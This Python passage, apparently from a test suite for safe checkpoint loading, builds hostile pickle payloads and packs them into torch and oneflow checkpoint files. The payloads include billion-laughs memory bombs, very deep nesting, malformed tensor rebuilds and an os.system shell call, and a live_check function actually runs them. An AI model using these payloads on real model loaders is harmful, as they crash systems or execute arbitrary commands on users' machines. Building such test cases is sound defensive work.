    for i in range(1, 60):
        a.mark().raw(P.BINGET + bytes([i - 1])).raw(P.BINGET + bytes([i - 1])).raw(P.LIST)
        a.raw(P.BINPUT + bytes([i]))
    return a.stop()


@technique("billion laughs: dicts of dicts through the memo")
def _(m):
    a = Asm().raw(P.EMPTY_DICT).raw(P.BINPUT + b"\x00")
    for i in range(1, 60):
        a.mark().str("a").raw(P.BINGET + bytes([i - 1])).str("b").raw(P.BINGET + bytes([i - 1])).raw(P.DICT)
        a.raw(P.BINPUT + bytes([i]))
    return a.stop()


@technique("billion laughs: a state dict whose values repeat one tensor 2**40 times")
def _(m):
    a = Asm().raw(P.EMPTY_LIST).raw(P.BINPUT + b"\x00")
    for i in range(1, 41):
        a.mark().raw(P.BINGET + bytes([i - 1])).raw(P.BINGET + bytes([i - 1])).raw(P.TUPLE)
        a.raw(P.BINPUT + bytes([i]))
    return a.raw(P.POP).raw(P.EMPTY_DICT).str("x").raw(P.BINGET + bytes([40])).raw(P.SETITEM).stop()


@technique("200k-deep tuple used as a dict key")
def _(m):
    depth = 200_000
    return bytes(Asm().raw(P.EMPTY_DICT).raw(P.EMPTY_TUPLE).raw(P.TUPLE1 * depth).int(1).raw(P.SETITEM).out) + P.STOP


@technique("200k-deep nested lists")
def _(m):
    return bytes(Asm().raw((P.MARK) * 200_000).raw(P.LIST * 200_000).out) + P.STOP


@technique("200k-deep nested dicts as values")
def _(m):
    a = Asm().raw(P.EMPTY_DICT)
    body = (P.EMPTY_DICT + P.BINUNICODE + struct.pack("<I", 1) + b"k") * 100_000
    return bytes(a.out) + body + P.EMPTY_DICT + P.SETITEM * 100_000 + P.STOP


@technique("one million marks")
def _(m):
    return Asm().raw(P.MARK * 1_000_000).stop()


@technique("zero-stride tensor of 2**31 x 2**31 elements over one float")
def _(m):
    a = Asm().glob("torch._utils", "_rebuild_tensor_v2").mark()
    a.mark().str("storage").glob("torch", "FloatStorage").str("0").str("cpu").int(1).tuple().raw(P.BINPERSID)
    a.int(0).mark().int(2**31).int(2**31).tuple().mark().int(0).int(0).tuple().raw(P.NEWFALSE)
    a.glob("collections", "OrderedDict").call()
    return a.tuple().raw(P.REDUCE).raw(P.BINPUT + b"\x00").mark().str("w").raw(P.BINGET + b"\x00").raw(P.DICT) \
        .stop()


@technique("tensor with 65 dimensions")
def _(m):
    a = Asm().glob("torch._utils", "_rebuild_tensor_v2").mark()
    a.mark().str("storage").glob("torch", "FloatStorage").str("0").str("cpu").int(1).tuple().raw(P.BINPERSID)
    a.int(0).value([1] * 65).value([0] * 65).raw(P.NEWFALSE).glob("collections", "OrderedDict").call()
    return a.tuple().raw(P.REDUCE).stop()


@technique("tensor with negative stride")
def _(m):
    a = Asm().glob("torch._utils", "_rebuild_tensor_v2").mark()
    a.mark().str("storage").glob("torch", "FloatStorage").str("0").str("cpu").int(4).tuple().raw(P.BINPERSID)
    a.int(3).value([4]).value([-1]).raw(P.NEWFALSE).glob("collections", "OrderedDict").call()
    return a.tuple().raw(P.REDUCE).stop()


@technique("tensor with a huge offset (overflow to negative in C)")
def _(m):
    a = Asm().glob("torch._utils", "_rebuild_tensor_v2").mark()
    a.mark().str("storage").glob("torch", "FloatStorage").str("0").str("cpu").int(4).tuple().raw(P.BINPERSID)
    a.int(2**63 - 1).value([2]).value([1]).raw(P.NEWFALSE).glob("collections", "OrderedDict").call()
    return a.tuple().raw(P.REDUCE).stop()


@technique("truncated pickle in the middle of a payload")
def _(m):
    return Asm().glob("os", "system").call(_sh(m)).stop()[:-6]


@technique("empty pickle")
def _(m):
    return b""


# ---------------------------------------------------------------- containers

def _zip_pt(payload: bytes) -> bytes:
    """A torch zip checkpoint whose data.pkl is `payload` (one 16-byte storage beside it)."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
        z.writestr("archive/data.pkl", payload)
        z.writestr("archive/byteorder", "little")
        z.writestr("archive/data/0", b"\x00" * 16)
        z.writestr("archive/version", "3\n")
    return buf.getvalue()


def _legacy_pt(payload: bytes) -> bytes:
    """A legacy torch file: magic, protocol, sys_info, then `payload` as the object pickle."""
    head = (pickle.dumps(0x1950A86A20F9469CFC6C, protocol=2) + pickle.dumps(1001, protocol=2)
            + pickle.dumps({"protocol_version": 1001, "little_endian": True,
                            "type_sizes": {"short": 2, "int": 4, "long": 4}}, protocol=2))
    return head + payload + pickle.dumps([], protocol=2)


def write_case(technique: Technique, container: str, marker: str, folder: Path) -> Path:
    """The hostile checkpoint for `technique` in `container`, written under `folder`."""
    payload = technique.build(marker)
    if container == "zip":
        path = folder / "hostile.pt"
        path.write_bytes(_zip_pt(payload))
    elif container == "legacy":
        path = folder / "hostile_legacy.pt"
        path.write_bytes(_legacy_pt(payload))
    elif container == "oneflow":
        path = folder / "hostile.oneflow"
        path.mkdir()
        (path / "pickled_data").write_bytes(payload)
    else:
        raise ValueError(container)
    return path


CONTAINERS = ("zip", "legacy", "oneflow")


def live_check(folder: Path) -> list[str]:
    """Run every `live` payload with plain `pickle.loads`, each with its own marker under
    `folder`; returns the names of those that did NOT create their marker. Call it in a
    throwaway child process: these payloads really run."""
    import importlib.util

    dead = []
    for i, t in enumerate(TECHNIQUES):
        if not t.live or (t.needs and importlib.util.find_spec(t.needs) is None):
            continue
        marker = folder / f"live{i}"
        try:
            pickle.loads(t.build(str(marker)))
        except Exception:
            pass
        import time

        for _ in range(50):  # Popen and friends finish a moment later
            if marker.exists():
                break
            time.sleep(0.02)
        if not marker.exists():
            dead.append(t.name)
    return dead
